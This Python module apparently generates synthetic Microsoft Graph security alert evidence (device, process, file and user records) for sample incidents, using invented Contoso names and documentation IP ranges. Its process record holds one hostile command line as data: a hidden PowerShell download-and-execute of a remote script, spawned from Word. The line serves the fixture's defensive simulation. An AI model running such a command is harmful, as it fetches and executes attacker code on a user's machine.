"""Synthetic evidence for sample incidents: what an alert names, with every member of Microsoft's schema.

Names, hashes and command lines are inventions; the addresses are from the ranges reserved for documentation.
"""

from __future__ import annotations

import hashlib
from datetime import datetime, timedelta

from local.tenant.clock import stamp
from local.tenant.shapes import machine_id
from local.tenant.wire import Json

_DOMAIN = "contoso.com"
_TYPE = "#microsoft.graph.security."


def device_evidence(
    device_id: str | None,
    time: datetime,
    *,
    roles: list[str] | None = None,
    detailed: list[str] | None = None,
    tags: list[str] | None = None,
) -> Json:
    """Return a device as an alert names it; `device_id` None is a device unknown to Defender for Endpoint."""
    name = _name_of(device_id)
    return {
        "@odata.type": f"{_TYPE}deviceEvidence",
        **_shared(time, "unknown", "none"),
        "roles": roles or [],
        "detailedRoles": detailed or [],
        "tags": tags or [],
        "firstSeenDateTime": "2025-09-12T07:28:32.4321753Z",
        "mdeDeviceId": device_id,
        "azureAdDeviceId": None,
        "deviceDnsName": f"{name}.{_DOMAIN}",
        "hostName": name,
        "ntDomain": None,
        "dnsDomain": _DOMAIN,
        "osPlatform": "Windows11",
        "osBuild": 22631,
        "version": "23H2",
        "healthStatus": "active",
        "riskScore": "medium",
        "rbacGroupId": 140,
        "rbacGroupName": "Workstations",
        "onboardingStatus": "onboarded",
        "defenderAvStatus": "updated",
        "lastIpAddress": "192.0.2.5",
        "lastExternalIpAddress": "203.0.113.7",
        "ipInterfaces": ["192.0.2.5", "::1"],
        "loggedOnUsers": [{"accountName": "alice", "domainName": "CONTOSO"}],
        "vmMetadata": None,
        "resourceAccessEvents": [],
    }


def process_evidence(device_id: str | None, time: datetime, *, verdict: str, remediation: str) -> Json:
    """Return a PowerShell process as evidence."""
    return {
        "@odata.type": f"{_TYPE}processEvidence",
        **_shared(time, verdict, remediation),
        "processId": 4780,
        "parentProcessId": 668,
        "processCommandLine": "powershell.exe -nop -w hidden -c IEX(iwr http://203.0.113.66/a.ps1)",
        "processCreationDateTime": stamp(time - timedelta(minutes=4)),
        "parentProcessCreationDateTime": stamp(time - timedelta(minutes=9)),
        "detectionStatus": _detection(remediation),
        "mdeDeviceId": device_id,
        "imageFile": _details("powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0"),
        "parentProcessImageFile": _details("winword.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16"),
        "userAccount": _account(),
    }


def file_evidence(device_id: str | None, time: datetime, *, verdict: str, remediation: str) -> Json:
    """Return an invented malicious file as evidence."""
    return {
        "@odata.type": f"{_TYPE}fileEvidence",
        **_shared(time, verdict, remediation),
        "detailedRoles": ["Referred in command line"],
        "detectionStatus": _detection(remediation),
        "mdeDeviceId": device_id,
        "fileDetails": _details("updater.exe", "C:\\Users\\Public"),
    }


def user_evidence(time: datetime) -> Json:
    """Return the invented user alice as evidence."""
    return {
        "@odata.type": f"{_TYPE}userEvidence",
        **_shared(time, "suspicious", "none"),
        "userAccount": _account(),
        "stream": None,
    }


def fleet_name(number: int) -> str:
    """Return the name of the machine at a place of `samples.fleet`."""
    return f"{('dc1', 'linux1')[number] if number < 2 else f'host{number - 1}'}.{_DOMAIN}"  # noqa: PLR2004 - dc1, linux1


def _name_of(device_id: str | None) -> str:
    """Find the host name behind an id of the first thousand machines of a fleet."""
    names = (fleet_name(number) for number in range(1000))
    found = next((name for name in names if machine_id(name) == device_id), "unknown")
    return found.partition(".")[0]


def _shared(time: datetime, verdict: str, remediation: str) -> Json:
    return {
        "createdDateTime": stamp(time),
        "verdict": verdict,
        "remediationStatus": remediation,
        "remediationStatusDetails": None,
        "roles": [],
        "detailedRoles": [],
        "tags": [],
    }


def _detection(remediation: str) -> str:
    return "prevented" if remediation in {"remediated", "prevented", "blocked"} else "detected"


def _details(name: str, folder: str) -> Json:
    content = name.encode()
    return {
        "fileName": name,
        "filePath": folder,
        "fileSize": 452_608,
        "sha1": hashlib.sha1(content, usedforsecurity=False).hexdigest(),
        "sha256": hashlib.sha256(content).hexdigest(),
        "md5": None,
        "sha256Ac": None,
        "filePublisher": None,
        "signer": None,
        "issuer": None,
    }


def _account() -> Json:
    return {
        "accountName": "alice",
        "domainName": "CONTOSO",
        "userSid": "S-1-5-21-1004336348-1177238915-682003330-1104",
        "azureAdUserId": "0a0f7a1c-3a55-4a2b-9c1e-5d2f4f6f7a10",
        "userPrincipalName": f"alice@{_DOMAIN}",
        "displayName": "Alice (synthetic)",
    }
